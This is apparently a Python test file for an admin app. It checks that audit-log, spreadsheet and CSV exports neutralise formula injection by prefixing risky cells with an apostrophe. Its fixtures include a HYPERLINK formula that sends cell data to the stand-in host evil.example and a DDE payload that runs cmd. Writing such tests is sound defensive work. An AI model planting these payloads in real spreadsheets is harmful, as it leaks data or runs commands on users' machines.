"""Exports never carry a formula that somebody else typed: an audit reason, a name in a roster, a report's cell —
each starting with =, +, -, @ — is written as text with a leading apostrophe, in .xlsx and CSV alike."""

from __future__ import annotations

import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from accounts.actor import ADMIN, Actor
from accounts.audit import AuditFilter, export_log
from accounts.repository import record_read
from evaluation.export import Stamp, stats_csv
from matching.privacy import load_vault
from pages.admin_parts import excel_bytes

ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"


def test_an_audit_export_keeps_a_typed_formula_as_text(database_factory):
    engine = database_factory("nanhai_cells")
    admin = Actor(None, "cells_admin", ADMIN)
    with engine.begin() as conn:
        record_read(conn, admin, "person.lookup", "@SUM(1+1)", ATTACK, None)
        body = export_log(conn, admin, AuditFilter(), load_vault())
    sheet = load_workbook(io.BytesIO(body)).active
    values = [cell for row in sheet.iter_rows(min_row=2, values_only=True) for cell in row]
    assert "'" + ATTACK in values and "'@SUM(1+1)" in values
    assert not any(isinstance(v, str) and v.startswith(("=", "@")) for v in values)
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "nothing is stored as a formula"


def test_sheets_and_csv_neutralise_formula_text_and_keep_numbers():
    rows = [{"name": "+86 桂城", "count": -3, "note": "-1 楼"}, {"name": "桂城街道", "count": 5, "note": "普通"}]
    sheet = load_workbook(io.BytesIO(excel_bytes("t", [("name", "名"), ("count", "数"), ("note", "注")], rows))).active
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [("'+86 桂城", -3, "'-1 楼"), ("桂城街道", 5, "普通")]
    text = stats_csv([{"code": "=cmd|' /C calc'!A0", "name": "桂城", "persons": -1}],
                     Stamp(datetime(2026, 12, 3, tzinfo=UTC), "q"), columns=["code", "name", "persons"])
    assert "'=cmd|' /C calc'!A0" in text and ",-1" in text
